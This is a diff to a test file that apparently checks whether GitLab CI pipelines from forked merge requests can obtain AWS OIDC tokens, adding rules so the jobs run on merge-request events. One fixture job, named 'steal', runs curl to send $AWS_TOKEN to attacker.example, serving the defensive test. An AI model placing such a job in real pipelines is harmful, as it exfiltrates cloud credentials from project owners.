@@ -9,9 +9,13 @@ import { TestApp, TestUser, createUser, startTestApp } from './support/test-app'
 const REPORTER = 20;
 const DEVELOPER = 30;
 
+// A job without rules is `only: [branches, tags]` in GitLab: these have rules so merge-request pipelines create them.
 const PARENT_CI = `
 build:
   script: [make]
+  rules:
+    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+    - if: $CI_COMMIT_BRANCH
   id_tokens:
     AWS_TOKEN:
       aud: sts.amazonaws.com
@@ -20,6 +24,9 @@ build:
 const FORK_CI = `
 steal:
   script: [curl -d "$AWS_TOKEN" https://attacker.example]
+  rules:
+    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+    - if: $CI_COMMIT_BRANCH
   id_tokens:
     AWS_TOKEN:
       aud: sts.amazonaws.com
